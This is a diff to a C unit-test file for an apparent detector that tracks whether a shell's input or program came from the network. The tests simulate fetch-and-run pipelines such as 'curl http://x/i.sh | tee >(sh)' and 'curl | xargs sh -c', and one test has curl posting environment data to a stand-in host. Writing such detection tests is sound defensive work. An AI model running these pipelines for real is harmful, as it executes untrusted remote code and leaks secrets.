@@ -192,6 +192,43 @@ static void file_op(struct world *w, struct bw_proc *p, const char *op, const ch
 	prov_on_file(&w->pv, &w->t, p, &f, &w->rj);
 }
 
+/* `curl URL | tee >(sh)`: tee writes the shell's pipe through /dev/fd/63, in any start order. */
+static void test_process_substitution_writer(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = job_shell(w), *curl, *tee, *sh;
+
+	/* bash forks >(sh) from the subshell that then runs tee */
+	tee = fork_of(w, shell);
+	sh = fork_of(w, tee);
+	curl = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 81, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov & BW_PROV_NETWORK, 0);
+	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "/dev/fd/63"), 80, 0, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 80, NULL);
+	assert_true(rejudged(w, sh));
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
+	assert_int_equal(info_of(w, sh).program_from, BW_PROG_STDIN);
+	/* a sibling's substitution, curl first */
+	shell = job_shell(w);
+	curl = fork_of(w, shell);
+	tee = fork_of(w, shell);
+	sh = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 84, NULL);
+	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "-a", "/proc/self/fd/62"), 84, 0, NULL);
+	exec_as(w, sh, "/usr/bin/bash", ARGV("bash"), 85, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
+	/* in another shell, or tee to a file: nothing passed on */
+	shell = job_shell(w);
+	sh = fork_of(w, shell);
+	tee = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 82, NULL);
+	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "log.txt"), 82, 0, NULL);
+	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 83, 0, NULL);
+	assert_int_equal(info_of(w, sh).stdin_prov & BW_PROV_NETWORK, 0);
+}
+
 /* `curl URL | sh`, whichever of the two starts first. */
 static void test_pipe_either_order(void **state)
 {
@@ -1107,6 +1144,14 @@ static void test_environment_sent(void **state)
 	curl = fork_of(w, filter);
 	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "HOME=/root", "http://x"), 0, 0, NULL);
 	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	/* curl URL | xargs -0 sh -c: the inline program is what xargs read */
+	curl = fork_of(w, shell);
+	filter = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 61, NULL);
+	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-0", "sh", "-c"), 61, 0, NULL);
+	env = fork_of(w, filter);
+	exec_as(w, env, "/usr/bin/dash", ARGV("sh", "-c", "echo pwned"), 0, 0, NULL);
+	assert_int_equal(info_of(w, env).script_prov, BW_PROV_NETWORK);
 	filter = fork_of(w, shell);
 	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-n1", "curl", "-O"), 0, 0, NULL);
 	curl = fork_of(w, filter);
@@ -1333,6 +1378,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_builtin_env_sent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_process_substitution_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_inline_env_dump, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_loader_runs_program, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_archive_extracted, setup, teardown),
